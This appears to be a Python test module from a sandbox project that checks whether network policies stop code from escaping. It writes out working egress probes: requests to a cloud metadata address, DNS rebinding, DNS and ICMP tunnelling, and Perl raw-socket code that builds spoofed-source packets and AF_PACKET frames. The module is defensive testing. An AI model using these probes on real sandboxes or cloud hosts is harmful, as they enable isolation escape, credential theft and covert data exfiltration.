"""What leaves a sandbox whose network policy says no, in a small internet of the tests' own (`tests/world.py`) that has a metadata address.

All of it is tried at once, for each road and policy. That it can get out the policies show that allow it.
"""

import ipaddress
import re
import secrets
from dataclasses import dataclass

import anyio.to_thread

from manyoyo_mcp.policy.fields import CAPABILITIES
from tests.escape.roads import IMAGE, Road
from tests.escape.vectors import BUILDS, OWN, Out, Outcome, Vector, add, contained
from tests.escape.world import World
from tests.world import ALLOW, METADATA, OTHER_RESOLVER, OVER6, PRIVATE, UNLISTED

_HELD = ("none", "allowlist")
_SSRF = "SSRF to a cloud's metadata (Capital One, 2019; CWE-918)"
_TUNNEL = "DNS tunnelling (iodine, dnscat2)"


@dataclass(frozen=True, slots=True)
class Way:
    """`open`: which policy lets it through: `open`, or `named`, where the address itself is on the list; "" where none does. `asks`: it got
    through if the internet's name server was asked for its label. `raw`: by raw sockets, which gVisor has not."""

    name: str
    source: str
    script: str
    open: str = "open"
    asks: bool = False
    raw: bool = False


_FUNCTIONS = r"""
at() { printf 'GET / HTTP/1.0\r\n\r\n' | nc -w 2 $1 $2 2>/dev/null | grep -q -e 200 -e hello; }
named() { a=$(nslookup -type=a $1 | sed -n '/^Name:/,$s/^Address: //p' | head -n 1); [ -n "$a" ] && at $a $2; }
over6() { perl -e '
socket(my $s, 10, 1, 6) or exit 1; $SIG{ALRM} = sub { exit 1 }; alarm 2;
exit !connect($s, pack("S n N H32 N", 10, $ARGV[1], 0, $ARGV[0], 0))' $1 $2; }
try() { n=$1; shift; if "$@" >/dev/null 2>&1; then echo "=$n yes"; else echo "=$n no"; fi; }
"""
_RAW = r"""perl -e '
my ($how, $label, $to, $spoofed) = @ARGV;
my $name = join "", map { chr(length) . $_ } split /\./, "$label.other.test";
my $query = pack("n6", 7, 0x100, 1, 0, 0, 0) . $name . pack("C n2", 0, 16, 1);
my ($own) = map { /inet ([0-9.]+)/ ? $1 : () } grep { !/127\.0/ } `ip -4 addr`;
my $from = $spoofed || $own;
my $udp = pack("n4", 40000 + $$ % 1000, 53, 8 + length $query, 0) . $query;
my $head = pack("C2 n3 C2 n C4 C4", 0x45, 0, 20 + length $udp, $$ & 65535, 0, 64, 17, 0, split(/\./, $from), split(/\./, $to));
my $sum = 0; $sum += $_ for unpack "n10", $head; $sum = ($sum & 65535) + ($sum >> 16) while $sum >> 16;
substr($head, 10, 2) = pack "n", ~$sum & 65535;
if ($how eq "ip") {
    socket(my $s, 2, 3, 255) or die "no raw socket: $!\n";
    for (1..3) { send($s, $head . $udp, 0, pack("S n C4 x8", 2, 53, split /\./, $to)) or die "$!\n"; select undef, undef, undef, 0.2 }
} else {
    my ($gateway) = map { /default via ([0-9.]+)/ ? $1 : () } `ip route`;
    system "ping -c 1 -W 1 $gateway > /dev/null 2>&1; nc -w 1 $gateway 9 < /dev/null > /dev/null 2>&1";
    open my $arp, "<", "/proc/net/arp"; my ($mac) = map { /^\Q$gateway\E\s+\S+\s+\S+\s+(\S+)/ ? $1 : () } <$arp>;
    my ($index) = map { /^(\d+): eth0/ ? $1 : () } `ip link`;
    my $frame = pack("H12", join "", split /:/, $mac);
    socket(my $s, 17, 2, unpack("S", pack("n", 0x0800))) or die "no packet socket: $!\n";
    for (1..3) { send($s, $head . $udp, 0, pack("S n i S C C a8", 17, 0x0800, $index, 0, 0, 6, $frame)) or die "$!\n"; select undef, undef, undef, 0.2 }
}' """
_DNS_BY_TCP = r"""perl -e '
my $name = join "", map { chr(length) . $_ } split /\./, "$ARGV[0].other.test";
my $query = pack("n6", 7, 0x100, 1, 0, 0, 0) . $name . pack("C n2", 0, 16, 1);
socket(my $s, 2, 1, 6); $SIG{ALRM} = sub { exit 1 }; alarm 3;
connect($s, pack("S n C4 x8", 2, 53, split /\./, $ARGV[1])) or exit 1;
syswrite $s, pack("n", length $query) . $query; sysread $s, my $answer, 100' """


def _packed(address: str) -> str:
    return ipaddress.ip_address(address).packed.hex()


WAYS = [
    Way("metadata", _SSRF, f"at {METADATA} 80", "named"),
    Way("metadata-by-a-listed-name", "DNS rebinding", "named rebind.wild.test 80", "named"),
    Way("metadata-mapped-to-ipv6", _SSRF, f"over6 {_packed(f'::ffff:{METADATA}')} 80", "named"),
    Way("address-that-is-not-listed", OWN, f"at {UNLISTED} 80"),
    Way("private-address", "SSRF (CWE-918)", f"at {PRIVATE} 80", ""),
    Way("ipv6", OWN, f"over6 {_packed(OVER6)} 80", ""),
    Way("dns-tunnel", _TUNNEL, "nslookup -type=txt LABEL.other.test", asks=True),
    Way("dns-tunnel-by-another-server", _TUNNEL, f"nslookup -type=txt LABEL.other.test {OTHER_RESOLVER}", asks=True),
    Way("dns-tunnel-by-tcp", _TUNNEL, f"{_DNS_BY_TCP} LABEL {OTHER_RESOLVER}", asks=True),
    Way("dns-at-another-port", _TUNNEL, f"nslookup -type=a other.test {UNLISTED}:5354"),
    Way("icmp-tunnel", "ICMP tunnelling (ptunnel)", f"ping -c 1 -W 2 {UNLISTED}", raw=True),
    Way("raw-ip", "CAP_NET_RAW: packets of one's own making", f"{_RAW} ip LABEL {OTHER_RESOLVER}", asks=True, raw=True),
    Way("raw-ip-from-another-address", "CVE-2020-14386's kin: CAP_NET_RAW", f"{_RAW} ip LABEL {OTHER_RESOLVER} 198.51.100.99", "", asks=True, raw=True),
    Way("packet-socket", "CVE-2020-14386's need: AF_PACKET", f"{_RAW} packet LABEL {OTHER_RESOLVER}", asks=True, raw=True),
]  # fmt: skip


async def _tried(world: World, road: Road, policy: str) -> dict[str, bool]:
    """What got through, by name; tried once."""
    key = ("leaving", road.name, policy)
    if key in world.kept:
        return dict(world.kept[key])
    internet = await anyio.to_thread.run_sync(world.internet)
    sandbox, change = world.box.sandbox, world.box.manager.change_network
    if ("leaving", "led") not in world.kept:
        await anyio.to_thread.run_sync(internet.lead, sandbox.sandbox_id, world.tier == "privileged")
        world.kept["leaving", "led"] = True
    mark = secrets.token_hex(4)
    script = _as_functions(mark) + "wait; cat /tmp/said-*; echo TRIED\n"
    if policy in ("allowlist", "named"):
        allow = ALLOW if policy == "allowlist" else [*ALLOW, f"{METADATA}:80"]
        await change(sandbox, "allowlist", allow, approved=policy == "named")
    else:
        await change(sandbox, policy, None)
    try:
        if road.name == "buildkit":
            files = {"try.sh": script.encode()}
            _, said = await road.build(f"FROM {IMAGE}\nCOPY try.sh /\nRUN sh /try.sh\n", files)
        else:
            _, said = await road.run(script, HostConfig={"CapAdd": sorted(CAPABILITIES)})
    finally:
        await change(sandbox, "open", None)
    assert "TRIED" in said, said[-800:]
    asked = await anyio.to_thread.run_sync(internet.asked)
    yes = {int(at) for at in re.findall(r"=(\d+) yes", said)}
    found = {way.name: (f"{mark}-{at}." in asked) if way.asks else at in yes for at, way in enumerate(WAYS)}
    world.kept[key] = found
    return dict(found)


def _as_functions(mark: str) -> str:
    """The script: each way as a function, for some are programs of many lines, all at once."""
    functions = [
        f"way{at}() {{ {way.script.strip().replace('LABEL', f'{mark}-{at}')}; }}" for at, way in enumerate(WAYS)
    ]
    return (
        _FUNCTIONS
        + "\n".join(functions)
        + "\n"
        + "".join(f"try {at} way{at} > /tmp/said-{at} &\n" for at in range(len(WAYS)))
    )


def _vector(way: Way) -> Vector:
    async def attempt(world: World, road: Road) -> Outcome:
        if way.open and not (way.raw and world.tier == "gvisor"):
            shown = await _tried(world, world.tool, way.open)
            assert shown[way.name], f"it does not get through where it may, so this shows nothing: {shown}"
        for policy in _HELD if way.open != "named" else (*_HELD, "open"):
            if (await _tried(world, road, policy))[way.name]:
                raise Out(f"it gets through with network_policy={policy}")
        if way.raw and world.tier == "gvisor":
            return contained("gVisor has no raw sockets")
        return contained("refused by the rules" if way.open else "there is no way at all")

    return Vector(f"leave-{way.name}", way.source, "leaving", attempt, roads=BUILDS)


for _each in WAYS:
    add(_vector(_each))
